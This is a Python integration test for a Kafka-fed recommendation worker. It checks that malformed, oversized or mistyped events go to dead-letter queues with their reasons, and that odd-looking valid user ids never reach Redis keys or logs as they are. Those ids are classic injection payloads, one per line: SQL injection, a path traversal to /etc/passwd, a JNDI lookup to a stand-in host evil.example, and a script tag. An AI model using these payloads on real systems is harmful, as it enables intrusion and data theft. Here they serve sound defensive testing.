"""A corpus of hostile events against a running worker: none crashes it, each rejected
event lands in its DLQ with the specific reason, and valid events among them still
work, however odd their ids look."""

from __future__ import annotations

import datetime
import json
import time
import urllib.request

import pytest

from stream_app.devtools.kafka_io import TopicReader
from stream_app.devtools.replay import PlannedEvent, produce_raw
from tests.reliability.scenarios import ensure, record, wait_for_final_lists, worker
from tests.support import isolated

pytestmark = [pytest.mark.integration, pytest.mark.reliability]

NOW = time.time()
# A valid ts in each form producers send: epoch seconds, milliseconds, RFC 3339.
TS_FORMS = [
    NOW,
    int(NOW * 1000),
    datetime.datetime.fromtimestamp(NOW, datetime.UTC).isoformat().replace("+00:00", "Z"),
    datetime.datetime.fromtimestamp(
        NOW, datetime.timezone(datetime.timedelta(hours=-5))
    ).isoformat(),
]


def event(**changes) -> bytes:
    body = {"event_id": "h", "user_id": "hostile", "item_id": "1", "type": "click", "ts": NOW}
    body.update(changes)
    return json.dumps({k: v for k, v in body.items() if v is not ...}).encode()


HOSTILE_INTERACTIONS = {
    b'{"event_id": "h1", "user_id":': "malformed_json",
    b"\xc3\x28\xa0\xa1 not utf-8": "invalid_utf8",
    b"null": "not_an_object",
    b"[1, 2, 3]": "not_an_object",
    b"[" * 9000 + b"]" * 9000: "too_large",
    b"[" * 5000 + b"]" * 5000: "malformed_json",  # nesting deeper than the parser goes
    b'{"pad": "' + b"x" * (1024 * 1024) + b'"}': "too_large",  # 1 MB
    event(event_id="h2", user_id=...): "missing_field",
    event(event_id="h3", admin=True): "unknown_field",
    event(event_id="h4", tags=list(range(2000))): "unknown_field",  # a huge array, 10 KB
    event(event_id="h5", user_id=12345): "wrong_type",
    event(event_id="h6", ts="yesterday"): "invalid_timestamp",
    event(event_id="h7", ts=True): "wrong_type",
    event(event_id="h8", user_id="u" * 10_000): "invalid_value",
    event(event_id="h9", user_id=""): "invalid_value",
    event(event_id="h10", user_id="line\nbreak"): "invalid_value",
    event(event_id="h11", ts=-5): "timestamp_out_of_range",
    event(event_id="h12", ts=1e300): "timestamp_out_of_range",
    event(event_id="h13", ts=NOW + 86_400): "timestamp_out_of_range",
    b'{"event_id": "h14", "user_id": "u", "item_id": "1", "type": "click", "ts": NaN}': (
        "timestamp_out_of_range"
    ),
    event(event_id="h15", type="like"): "unknown_event_type",
    event(event_id="h16", schema_version=2): "unsupported_version",
    event(event_id="h17", item_id="no-such-item"): "unknown_item",
    event(event_id="h18", ts="2026-12-01T07:30:00"): "timestamp_without_offset",  # local time
    event(event_id="h19", ts={"seconds": 1}): "wrong_type",
}
HOSTILE_ITEMS = {
    json.dumps({"item_id": "x", "title": "T", "text": "t" * 5000}).encode(): "text_too_long",
    json.dumps({"item_id": "x", "title": "T", "text": "t", "tags": "Drama"}).encode(): (
        "wrong_type"
    ),
    json.dumps({"item_id": "x", "title": "T", "text": "t", "available": "no"}).encode(): (
        "wrong_type"
    ),
    json.dumps({"item_id": "x", "title": "T"}).encode(): "missing_field",
}
# Valid, however they look: they must work, and never reach Redis or a log as they are.
ODD_BUT_VALID_USERS = [
    'u1"; DROP TABLE users; --',
    "{user}*",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "用户-ユーザー-👤",
]


def dlq(settings, topic: str, expected: int) -> dict[bytes, str]:
    with TopicReader(settings.kafka, topic + settings.kafka.dlq_suffix) as reader:
        reader.read_until(lambda messages: len(messages) >= expected, timeout_s=60)
        messages = reader.drain(quiet_s=2.0)
    return {m.value(): dict(m.headers())["streamrec-reason"].decode() for m in messages}


def test_hostile_events_are_dead_lettered_with_their_reason(stack_settings, catalog, redis_sync):
    settings = ensure(isolated(stack_settings, worker={"unknown_items": "dead_letter"}))
    kafka = settings.kafka
    odd_events = [
        (user.encode(), event(event_id=f"odd-{i}", user_id=user, ts=TS_FORMS[i % len(TS_FORMS)]))
        for i, user in enumerate(ODD_BUT_VALID_USERS)
    ]
    with worker(settings, "hostile") as running:
        produce_raw(kafka, kafka.interactions_topic, [(b"h", v) for v in HOSTILE_INTERACTIONS])
        produce_raw(kafka, kafka.items_topic, [(b"h", v) for v in HOSTILE_ITEMS])
        produce_raw(kafka, kafka.interactions_topic, odd_events)
        got = dlq(settings, kafka.interactions_topic, len(HOSTILE_INTERACTIONS))
        got_items = dlq(settings, kafka.items_topic, len(HOSTILE_ITEMS))
        odd = [PlannedEvent(u, f"odd-{i}", "1", "click") for i, u in enumerate(ODD_BUT_VALID_USERS)]
        unserved = wait_for_final_lists(settings, odd, timeout_s=60)
        health = f"http://127.0.0.1:{settings.worker.web_port}/healthz"
        with urllib.request.urlopen(health, timeout=5) as response:
            assert response.status == 200
        log = running.log_tail(lines=100_000)

    limit = settings.worker.max_event_bytes
    expected = {value[:limit]: reason for value, reason in HOSTILE_INTERACTIONS.items()}
    record(
        "hostile events (every DLQ reason) and odd-looking valid ids",
        events=len(HOSTILE_INTERACTIONS) + len(HOSTILE_ITEMS) + len(ODD_BUT_VALID_USERS),
        dead_lettered_with_their_reason=sum(got.get(v) == r for v, r in expected.items())
        + sum(got_items.get(v[:limit]) == r for v, r in HOSTILE_ITEMS.items()),
        odd_ids_served=len(ODD_BUT_VALID_USERS) - len(unserved),
    )
    assert got == {value[:limit]: reason for value, reason in HOSTILE_INTERACTIONS.items()}
    assert got_items == {value[:limit]: reason for value, reason in HOSTILE_ITEMS.items()}
    assert not unserved  # the odd ids were valid and got their lists
    raw_ids = [u.encode() for u in ODD_BUT_VALID_USERS]
    keys = list(redis_sync.scan_iter(match=f"{settings.redis.key_prefix}*", count=1000))
    assert not any(u in key for key in keys for u in raw_ids)
    assert not any(u in log for u in ODD_BUT_VALID_USERS)
